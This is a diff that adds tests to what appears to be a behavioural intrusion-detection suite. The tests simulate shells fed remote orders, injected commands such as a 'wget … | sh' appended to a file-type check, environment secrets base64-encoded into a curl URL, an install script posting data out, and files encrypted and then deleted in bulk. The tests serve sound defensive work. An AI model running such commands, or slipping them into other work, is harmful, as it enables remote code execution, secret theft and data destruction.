@@ -69,6 +69,14 @@ describe('shells behind the network', () => {
     expectIncident(world, 'behaviour.shell-on-network')
   })
 
+  it('is found where typed code asks for its orders and gives each to a shell', () => {
+    const { world, job } = service()
+    const code = job.run('python3 -c loop').connect(LAB, 8000)
+    code.traffic(LAB, 8000, 90, 200, { ended: true })
+    code.run('sh -c whatever')
+    expectIncident(world, 'behaviour.orders-run')
+  })
+
   it('says nothing of a shell with a script, pipes and a connection above', () => {
     const { world, init } = service()
     init.connect('10.1.0.5', 5432)
@@ -156,6 +164,22 @@ describe('programs from the network', () => {
 })
 
 describe('requests', () => {
+  it('lets a server nobody knows yet ask one tool of its image', () => {
+    const { world, init } = service()
+    init.listen(8080).accept('10.9.9.9', 50_000)
+    init.run('sh', { args: ['sh', '-c', "file -b '/tmp/phpAb12Cd' 2>&1"] })
+    expect(incidents(world)).toEqual([])
+  })
+
+  it('finds a command that was slipped in behind the tool, and a first look around', () => {
+    for (const text of ["file -b 'x'; wget -qO- http://x | sh", 'id', 'file -b `id`']) {
+      const { world, init } = service()
+      init.listen(8080).accept('10.9.9.9', 50_000)
+      init.run('sh', { args: ['sh', '-c', text] })
+      expectIncident(world, 'behaviour.request-starts-shell')
+    }
+  })
+
   it('finds a shell that a request starts', () => {
     const { world, init } = service()
     init.listen(8080).accept('10.9.9.9', 50_000)
@@ -267,6 +291,29 @@ describe('what is taken out', () => {
     expectIncident(world, 'behaviour.secret-sent')
   })
 
+  it('finds the environment put into the address of a request by a shell', () => {
+    const { world, job } = service()
+    const inner = job.fork()
+    inner.run('env', { stdio: [NOTHING, pipe(62), NOTHING] }).exit()
+    inner.run('base64 -w0', { stdio: [pipe(62), pipe(63), NOTHING] }).exit()
+    inner.exit()
+    job.run('curl', { args: ['curl', '-s', `http://${LAB}/pixel?d=${'QUJD'.repeat(60)}`] }).connect(LAB, 8000)
+    expectIncident(world, 'behaviour.secret-sent')
+  })
+
+  it('says nothing of a long address where nobody looked at the environment', () => {
+    const { world, job } = service()
+    job.run('date', { stdio: [NOTHING, pipe(64), NOTHING] }).exit()
+    job.run('curl', { args: ['curl', '-s', `http://${LAB}/pixel?d=${'QUJD'.repeat(60)}`] }).connect(LAB, 8000)
+    expect(rules(world)).not.toContain('behaviour.secret-sent')
+  })
+
+  it('finds the build script of a package, started by hand, that sends data', () => {
+    const { world, job } = service()
+    job.run('perl Makefile.PL').connect(LAB, 8000).protocol('http', LAB, 8000, 'POST /up')
+    expectIncident(world, 'behaviour.install-script-sends')
+  })
+
   it('finds copies of secrets gathered and sent', () => {
     const { world, job } = service()
     job.run('cp /proc/1/environ /tmp/.st/').read('/proc/1/environ').write('/tmp/.st/environ').exit()
@@ -306,6 +353,24 @@ describe('damage', () => {
     const { world, job } = service()
     for (let file = 0; file < 50; file++) job.fork().unlink(`/data2/${file}`).exit()
     expectIncident(world, 'behaviour.bulk-deletion')
+  })
+
+  it('finds files that are replaced by copies with a new ending', () => {
+    const { world, job } = service()
+    for (let file = 0; file < 12; file++) {
+      job.run(`/usr/bin/gpg -c ${file}`).write(`/srv/docs/${file}.odt.gpg`, { created: true }).exit()
+      job.run('rm').unlink(`/srv/docs/${file}.odt`).exit()
+    }
+    expectIncident(world, 'behaviour.sealed-and-removed')
+  })
+
+  it('says nothing of files that are compressed', () => {
+    const { world, job } = service()
+    for (let file = 0; file < 30; file++) {
+      const gzip = job.run(`/usr/bin/gzip ${file}`).write(`/srv/docs/${file}.odt.gz`, { created: true })
+      gzip.unlink(`/srv/docs/${file}.odt`).exit()
+    }
+    expect(incidents(world)).toEqual([])
   })
 
   it('finds files that get a new ending in bulk', () => {
